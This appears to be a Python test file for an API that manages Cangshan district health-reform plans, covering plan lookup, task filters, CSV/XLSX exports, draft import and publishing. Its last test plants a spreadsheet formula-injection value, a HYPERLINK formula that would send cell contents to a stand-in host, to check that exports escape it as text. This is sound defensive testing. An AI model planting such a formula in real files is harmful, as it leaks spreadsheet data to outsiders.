"""Plans over the API: list, one plan, tasks, items, targets, matrix, exports, import and review."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from yigai.data import seed_paths

from .api_helpers import seed_document
from .conftest import PLAN, Web

P = f"/api/v1/plans/{PLAN}"


def test_plans_list_and_one_plan_by_id_or_document_number(web: Web) -> None:
    client = web.client("leader")
    plans = client.get("/api/v1/plans").json()
    assert [(p["id"], p["doc_number"], p["tasks"], p["measures"]) for p in plans] == [
        (1, "仓医改组〔2021〕1号", 37, 133)
    ]
    by_id = client.get(P).json()
    by_number = client.get("/api/v1/plans/仓医改组〔2021〕1号").json()
    assert by_id == by_number
    assert by_id["meta"]["title"] == "仓山区深化医药卫生体制集成改革实施方案"
    assert by_id["summary"]["targets"] == 29 and by_id["sections"][0]["children"] is not None
    source = client.get(f"{P}/source").json()
    assert source["text"].startswith("仓山区") or "仓山区" in source["text"][:200]


def test_unknown_plan_is_404_in_chinese(web: Web) -> None:
    response = web.client("leader").get("/api/v1/plans/99")
    assert response.status_code == 404
    error = response.json()["error"]
    assert (
        error["message"].startswith("未找到计划「99」") and "no plan" in error["message_en"] and error["where"] == "99"
    )


def test_tasks_filtered_by_department_and_category(web: Web) -> None:
    client = web.client("wjw")
    every = client.get(f"{P}/tasks").json()
    assert len(every) == 37 and sum(len(t["measures"]) for t in every) == 133
    insurance = client.get(f"{P}/tasks", params={"department": "医保"}).json()
    assert insurance and len(insurance) < 37
    for task in insurance:
        names = {d["name"] for r in [task, *task["measures"]] for d in r["lead"] + r["cooperating"]}
        assert "区医保局" in names
    indicator_tasks = client.get(f"{P}/tasks", params={"category": "指标类"}).json()
    assert 0 < len(indicator_tasks) < 37
    assert client.get(f"{P}/tasks", params={"department": "不存在的局"}).status_code == 404


def test_items_targets_and_the_responsibility_matrix(web: Web) -> None:
    client = web.client("leader")
    items = client.get(f"{P}/items", params={"department": "区医保局"}).json()
    t27 = next(i for i in items if i["item_id"] == "T27.M4")
    assert t27["lead"] == ["区医保局"]
    targets = client.get(f"{P}/targets").json()
    assert len(targets) == 29 and targets[0]["index"] == 0 and targets[0]["comparator"] == "≥"
    matrix = client.get(f"{P}/departments").json()
    assert (
        matrix[0]["name"] == "区卫生健康委"
        and matrix[0]["lead"] == matrix[0]["lead_tasks"] + matrix[0]["lead_measures"]
    )


def test_list_exports_as_csv_and_xlsx(web: Web) -> None:
    client = web.client("leader")
    response = client.get(f"{P}/departments", params={"format": "csv"})
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert (
        "attachment" in response.headers["content-disposition"]
        and "filename*=UTF-8''" in response.headers["content-disposition"]
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["部门", "类型", "牵头任务"] and rows[1][0] == "区卫生健康委"
    book = load_workbook(io.BytesIO(client.get("/api/v1/plans", params={"format": "xlsx"}).content))
    sheet = book.active
    assert sheet is not None
    assert [c.value for c in sheet[1]][:3] == ["编号", "标题", "文号"] and sheet["C2"].value == "仓医改组〔2021〕1号"
    assert client.get("/api/v1/plans", params={"format": "pdf"}).status_code == 422


def test_plan_workbook_download(web: Web) -> None:
    response = web.client("leader").get(f"{P}/export.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames[:2] == ["任务清单", "指标目标"]
    tasks = book["任务清单"]
    assert tasks["A1"].value == "序号" and tasks.max_row > 133  # one row per measure, after the header


def test_import_then_review_and_publish(web: Web) -> None:
    client = web.client("admin")
    uploaded = client.post("/api/v1/plans/import", files={"file": seed_document()})
    assert uploaded.status_code == 201 and uploaded.json()["plan_id"] is None
    draft_id = uploaded.json()["draft_id"]
    assert [d["id"] for d in client.get("/api/v1/drafts").json()] == [draft_id]
    review = client.get(f"/api/v1/drafts/{draft_id}").json()
    assert review["info"]["status"] == "draft" and review["plan"]["tasks"] and review["spans"]
    task = review["plan"]["tasks"][0]["id"]
    fixed = client.put(
        f"/api/v1/drafts/{draft_id}/items/{task}/departments", json={"lead": ["区卫健局"], "cooperating": ["区医保局"]}
    )
    assert fixed.status_code == 200, fixed.text
    assert [d["name"] for d in fixed.json()["lead"]] == ["区卫生健康委"]
    assert client.put(f"/api/v1/drafts/{draft_id}/items/{task}/deadline", json={"value": "2023年底"}).status_code == 200
    assert client.patch(f"/api/v1/drafts/{draft_id}/meta", json={"region": "青浦区"}).json()["region"] == "青浦区"
    published = client.post(f"/api/v1/drafts/{draft_id}/publish", json={"replace": False})
    assert published.status_code == 200, published.text
    plan_id = published.json()["plan_id"]
    tasks = client.get(f"/api/v1/plans/{plan_id}/tasks").json()
    assert [d["name"] for d in tasks[0]["lead"]] == ["区卫生健康委"]
    again = client.post(f"/api/v1/drafts/{draft_id}/publish")
    assert again.status_code in (409, 422)
    corrections = client.get(f"/api/v1/drafts/{draft_id}").json()["corrections"]
    assert [c["action"] for c in corrections] == ["upload", "departments", "deadline", "meta", "publish"]


def test_import_and_publish_at_once_and_bad_documents(web: Web) -> None:
    client = web.client("admin")
    done = client.post("/api/v1/plans/import", files={"file": seed_document()}, data={"publish": "true"})
    assert done.status_code == 201 and done.json()["plan_id"] == 2
    wrong_type = client.post("/api/v1/plans/import", files={"file": ("plan.exe", b"MZ\x90\x00", "application/x-msdos")})
    assert wrong_type.status_code == 422 and "类型不支持" in wrong_type.json()["error"]["message"]
    empty = client.post("/api/v1/plans/import", files={"file": ("empty.txt", b"", "text/plain")})
    assert empty.status_code == 400 and empty.json()["error"]["message"].startswith("文件为空")
    discarded = client.post("/api/v1/drafts", files={"file": seed_document()}).json()["draft_id"]
    assert client.post(f"/api/v1/drafts/{discarded}/discard").status_code == 200
    assert client.get("/api/v1/drafts").json() == []
    assert [d["status"] for d in client.get("/api/v1/drafts", params={"all": "true"}).json()] == [
        "discarded",
        "published",
    ]


def test_a_draft_lists_its_tasks_without_a_lead_and_takes_departments_for_many(web: Web) -> None:
    client = web.client("admin")
    seed_001 = seed_paths()[1]
    uploaded = client.post("/api/v1/drafts", files={"file": (seed_001.name, seed_001.read_bytes(), "text/plain")})
    draft_id = uploaded.json()["draft_id"]
    review = client.get(f"/api/v1/drafts/{draft_id}").json()
    assert len(review["without_lead"]) == 35 and review["without_lead"][0] == "T1"
    response = client.post(
        f"/api/v1/drafts/{draft_id}/assignments",
        json={"items": review["without_lead"], "lead": ["区卫健委"], "mode": "replace"},
    )
    assert response.status_code == 200, response.text
    assert (response.json()["version"], len(response.json()["changed"])) == (2, 35)
    after = client.get(f"/api/v1/drafts/{draft_id}").json()
    assert after["without_lead"] == [] and after["corrections"][-1]["action"] == "assign"
    bad = client.post(
        f"/api/v1/drafts/{draft_id}/assignments", json={"items": ["T1"], "cooperating": ["区医保局"], "mode": "replace"}
    )
    assert bad.status_code == 422 and "替换方式须指定牵头部门" in bad.json()["error"]["message"]
    wrong = client.post(
        f"/api/v1/drafts/{draft_id}/assignments", json={"items": ["T1"], "lead": ["区卫健委"], "mode": "merge"}
    )
    assert wrong.status_code == 422


FORMULA = '=HYPERLINK("http://x/?d="&B3,"详情")'


def test_list_exports_write_a_formula_looking_department_as_text(web: Web) -> None:
    admin = web.client("admin")
    renamed = admin.post("/api/v1/departments/rename", json={"old": "区医保局", "new": FORMULA})
    assert renamed.status_code == 200, renamed.text
    name = next(i["lead"][0] for i in admin.get(f"{P}/items").json() if i["item_id"] == "T27.M4")
    assert name.startswith("=HYPERLINK")
    book = load_workbook(io.BytesIO(admin.get(f"{P}/items", params={"format": "xlsx"}).content))
    sheet = book.active
    assert sheet is not None
    lead = next(row[4] for row in sheet.iter_rows(min_row=2) if row[0].value == "T27.M4")
    assert lead.data_type == "s" and lead.value == "'" + name  # text, as every other export writes it
    rows = list(csv.reader(io.StringIO(admin.get(f"{P}/items", params={"format": "csv"}).content.decode("utf-8-sig"))))
    assert next(r[4] for r in rows if r[0] == "T27.M4") == "'" + name
    matrix = list(
        csv.reader(io.StringIO(admin.get(f"{P}/departments", params={"format": "csv"}).content.decode("utf-8-sig")))
    )
    assert "'" + name in [r[0] for r in matrix]
